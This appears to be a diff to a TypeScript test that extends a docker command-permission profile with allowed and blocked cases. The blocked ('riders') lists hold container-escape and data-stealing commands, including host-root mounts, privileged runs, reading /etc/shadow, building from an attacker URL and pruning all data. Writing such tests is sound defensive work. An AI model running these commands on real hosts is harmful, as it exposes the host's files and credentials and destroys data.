@@ -1,12 +1,20 @@
 import { describeProfiles } from '../../testing/describe-profiles.ts'
 
 describeProfiles('containers', {
-  reads: ['docker ps', 'docker images'],
+  reads: [
+    'docker ps',
+    'docker images',
+    'docker info',
+    'docker image ls',
+    'docker stats --no-stream',
+    'docker network inspect bridge',
+    'docker-compose ps',
+  ],
   granted: {
     'docker ps': ['docker ps -a'],
     'docker logs': ['docker logs -f web'],
-    'docker build': ['docker build -t app .'],
-    'docker compose up': ['docker compose up -d'],
+    'docker build': ['docker build -t app .', 'DOCKER_BUILDKIT=1 docker build -t x .'],
+    'docker compose up': ['docker compose up -d', 'docker compose up -d --build'],
     'docker compose': ['docker compose logs web'],
     'docker stop': ['docker stop web'],
     'docker rm': ['docker rm web'],
@@ -14,6 +22,14 @@ describeProfiles('containers', {
     'docker run --rm app': ['docker run --rm app'],
     docker: ['docker images'],
     'docker pull': ['docker pull alpine'],
+    'docker run': [
+      'docker run --rm alpine echo hi',
+      'docker run -d -p 8080:80 --name web nginx',
+      'docker run --rm -v ./data:/data alpine ls /data',
+      'docker run -e A=1 x',
+    ],
+    'docker inspect': ['docker inspect web'],
+    'docker compose logs': ['docker compose logs -f --tail=100'],
   },
   riders: {
     docker: [
@@ -23,11 +39,29 @@ describeProfiles('containers', {
       'docker -H tcp://e ps',
       'docker system prune -af',
       'docker rm -v x',
+      'docker exec c id',
+      'docker rm -f x',
+      'docker context use x',
     ],
-    'docker run': ['docker run -v /:/h alpine', 'docker run -v /:/h alpine'],
+    'docker run': [
+      'docker run -v /:/h alpine',
+      'docker run -v /:/h alpine',
+      'docker run --mount type=bind,src=/,dst=/h alpine',
+      'docker run --env-file .env alpine',
+      'docker run --volumes-from x alpine',
+    ],
     'docker run alpine': ['docker run --privileged alpine'],
-    'docker exec': ['docker exec web id'],
-    'docker build': ['docker build --secret id=x .'],
+    'docker exec': ['docker exec web id', 'docker exec -u root c sh'],
+    'docker build': [
+      'docker build --secret id=x .',
+      'docker build -f /etc/shadow .',
+      'docker build /',
+      'docker build https://evil.example/x.git',
+      'docker build - < x',
+      'docker build --build-context x=/ .',
+    ],
     'docker compose': ['docker compose exec web id', 'docker compose -f /tmp/x up'],
+    'docker compose up': ['docker compose -f /tmp/x.yml up', 'docker compose up -f /tmp/x'],
+    'docker compose down': ['docker compose down --volumes'],
   },
 })
